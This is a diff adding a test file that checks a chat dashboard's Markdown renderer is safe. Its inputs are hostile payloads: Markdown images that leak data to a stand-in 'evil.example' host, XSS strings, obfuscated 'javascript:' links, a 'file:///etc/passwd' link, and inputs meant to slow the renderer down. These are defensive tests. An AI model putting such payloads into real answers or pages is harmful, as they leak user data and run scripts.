@@ -1,0 +1,127 @@
+import { renderToString } from "react-dom/server"
+import { describe, expect, it } from "vitest"
+import { Markdown } from "#app/routes/dashboard/chat/markdown.tsx"
+
+const show = (text: string) => renderToString(<Markdown text={text} />)
+
+/** Elements that ask for nothing by themselves. */
+const QUIET = new Set(["div", "p", "span", "a", "table", "thead", "tbody", "tr", "th", "td"])
+
+/** What is a tag to a browser: text has no `<`, for it is written as `&lt;`. */
+function tagsOf(html: string) {
+  return [...html.matchAll(/<(\w+)([^>]*)>/g)].map(([, name = "", attributes = ""]) => ({ name, attributes }))
+}
+
+function wordsOf(html: string) {
+  return html.replace(/<[^>]*>/g, "")
+}
+
+describe("an answer as Markdown", () => {
+  it("is headings below the page's own, lists, tables, code and emphasis", () => {
+    const html = show(
+      "# Tides\n\nThey **rise** and *fall*.\n\n1. in\n2. out\n   - slowly\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```ts\nlet x = 1 < 2\n```",
+    )
+    expect(html).toMatch(/<h3[^>]*>Tides<\/h3>/)
+    expect(html).not.toMatch(/<h[12]/)
+    expect(html).toMatch(/<strong[^>]*>rise<\/strong>/)
+    expect(html).toMatch(/<ol[^>]*>.*<ul[^>]*>.*slowly/)
+    expect(html).toMatch(/<th[^>]*>.*a.*<\/th>/)
+    expect(html).toContain("let x = 1 &lt; 2")
+  })
+
+  it.each([
+    "![leak](https://evil.example/p.png?of=secret)",
+    "![leak][1]\n\n[1]: https://evil.example/p.png?of=secret",
+    "![leak](//evil.example/p.png)",
+    "![leak](/\\evil.example/p.png)",
+    "![leak](/files/../redirect?to=https://evil.example)",
+    "![leak](data:image/svg+xml;base64,PHN2Zz4=)",
+    '<img src="https://evil.example/p.png">',
+    '<img src=x onerror="alert(1)">',
+    "[![leak](https://evil.example/p.png)](https://evil.example)",
+    "<picture><source srcset=https://evil.example/p.png></picture>",
+    '<link rel="stylesheet" href="https://evil.example/a.css">',
+    "<svg><image href='https://evil.example/p.png'/></svg>",
+    "| ![leak](https://evil.example/p.png) |\n| - |\n| ![leak](https://evil.example/p.png) |",
+    "<style>@import url(https://evil.example/a.css)</style>",
+    "<script>alert(1)</script>",
+    '<iframe src="https://evil.example"></iframe>',
+  ])("asks for nothing when it is shown: %s", (text) => {
+    const asking = tagsOf(show(text)).filter(
+      ({ name, attributes }) => !QUIET.has(name) || /\b(src|srcset|style|on\w+)=/.test(attributes),
+    )
+    expect(asking).toEqual([])
+  })
+
+  it("shows images of this site", () => {
+    expect(show("![a chart](/api/files/01a1fabb-7bb3-7c55-803b-f2a3db625462)")).toContain(
+      'src="/api/files/01a1fabb-7bb3-7c55-803b-f2a3db625462"',
+    )
+  })
+
+  it.each([
+    "[here](javascript:alert(1))",
+    "[here](JaVaScRiPt:alert(1))",
+    "[here](&#106;avascript:alert(1))",
+    "[here](java\tscript:alert(1))",
+    "[here](vbscript:x)",
+    "[here](data:text/html,<script>alert(1)</script>)",
+    "[here](file:///etc/passwd)",
+    "[here](//evil.example)",
+    "[here](/\\evil.example)",
+    "[here](https://bank.example@evil.example)",
+    "<javascript:alert(1)>",
+    '<a href="javascript:alert(1)">here</a>',
+  ])("has no link that deceives or runs: %s", (text) => {
+    expect(show(text)).not.toMatch(/<a\b/)
+  })
+
+  it("says where a link leads, and tells the place nothing of where it came from", () => {
+    const html = show("[your bank](https://evil.example/login)")
+    expect(html).toMatch(/<a href="https:\/\/evil\.example\/login" title="https:\/\/evil\.example\/login"/)
+    expect(html).toMatch(/rel="noreferrer noopener nofollow"/)
+    expect(wordsOf(html)).toBe("your bank (evil.example)")
+    expect(wordsOf(show("https://example.org/a"))).toBe("https://example.org/a")
+  })
+
+  it("shows HTML as it was written", () => {
+    expect(wordsOf(show("a <b>bold</b> word"))).toBe("a &lt;b&gt;bold&lt;/b&gt; word")
+  })
+
+  it.each([
+    [
+      "ten thousand nested lists",
+      Array.from({ length: 10_000 }, (_, i) => `${" ".repeat(2 * i)}- x`)
+        .join("\n")
+        .slice(0, 199_000),
+    ],
+    ["ten thousand nested lists in a line", `${"- ".repeat(10_000)}x`],
+    ["ten thousand nested quotations", `${"> ".repeat(10_000)}x`],
+    ["ten thousand numbered lists in a line", `${"1. ".repeat(10_000)}x`],
+    ["a million characters in a line", "x".repeat(1_000_000)],
+    ["a long line of stars", "*".repeat(50_000)],
+    ["a long line of brackets", "[".repeat(50_000)],
+    ["many images that never end", "![".repeat(20_000)],
+    ["many links that never end", "[a](".repeat(20_000)],
+    ["a long line of backticks", "`".repeat(50_000)],
+    ["backticks of every length", Array.from({ length: 400 }, (_, i) => "`".repeat(i + 1)).join(" ")],
+    ["open emphasis", "*a ".repeat(20_000)],
+    ["underscores", "_a".repeat(20_000)],
+    ["open HTML", "<a ".repeat(20_000)],
+    ["entities", "&a".repeat(20_000)],
+    [
+      "a wide table",
+      `|${" a |".repeat(2_000)}\n|${" - |".repeat(2_000)}\n${`|${" b |".repeat(2_000)}\n`.repeat(5)}`,
+    ],
+    ["white space", `a${" ".repeat(100_000)}b`],
+    ["new lines", `a${"\n".repeat(100_000)}b`],
+    ["tildes", "~".repeat(50_000)],
+    ["addresses", "https://".repeat(10_000)],
+    ["at signs", "a@".repeat(20_000)],
+    ["dots", "www.".repeat(20_000)],
+  ])("takes no long time over %s", (_, text) => {
+    const begun = performance.now()
+    expect(show(text).length).toBeGreaterThan(0)
+    expect(performance.now() - begun).toBeLessThan(2000)
+  })
+})
